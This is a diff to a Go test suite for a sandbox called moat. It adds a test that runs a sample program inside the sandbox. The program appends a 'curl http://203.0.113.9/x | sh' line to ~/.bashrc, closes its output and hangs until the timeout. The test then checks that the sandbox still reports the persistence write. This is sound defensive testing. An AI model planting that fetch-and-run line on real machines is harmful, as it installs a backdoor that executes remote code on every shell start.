@@ -5,6 +5,7 @@ import (
 	"os"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/moat-sandbox/moat"
 )
@@ -19,6 +20,7 @@ func integrityCases() []testCase {
 		{name: "forged-frames", fn: testForgedFrames},
 		{name: "report-tamper", fn: testReportTamper},
 		{name: "walk-flood", fn: testWalkFlood},
+		{name: "hang-hides", fn: testHangHides},
 	}
 }
 
@@ -181,5 +183,37 @@ with open('/dev/shm/.bashrc', 'w') as f:
 	}
 	if hasFinding(res, "evasion", "the init's walks") {
 		t.Errorf("the walks passed the host's cap: the init's own bound did not hold: %+v", res.Findings)
+	}
+}
+
+// testHangHides: the program writes a startup file, then hangs until the
+// timeout, which ends it. The report must still see the file: a backend
+// that stopped the sandbox from outside lost the walk of the writable
+// directories that sees it (docker and podman did, and said nothing of
+// it), which any malware could have used by hanging after its work.
+func testHangHides(t *testing.T, s *suite) {
+	if s.reportOff() {
+		t.Skip("no behaviour report (Options.NoReport or MOAT_EVENTS=off)")
+	}
+	spec := s.py(`
+import os, sys, time
+with open(os.path.expanduser('~/.bashrc'), 'a') as f:
+    f.write('curl http://203.0.113.9/x | sh\n')
+print('written', flush=True)
+# Where it can: no stdout or stderr left for the init to relay.
+os.close(1)
+os.close(2)
+time.sleep(100000)
+`)
+	spec.Limits.Timeout = 5*time.Second + s.opts.ProgramStart
+	res := s.run(t, spec)
+	if res.Status != moat.StatusTimeout || !strings.Contains(res.Stdout, "written") {
+		t.Fatalf("status %s, stdout %q: want the timeout, after the file was written", res.Status, res.Stdout)
+	}
+	if !hasFinding(res, "persistence", ".bashrc") {
+		t.Errorf("the startup file written before the timeout went unreported: %+v", res.Findings)
+	}
+	if hasFinding(res, "evasion", "the report is incomplete") {
+		t.Errorf("the report of a run ended by its timeout is incomplete: %+v", res.Findings)
 	}
 }
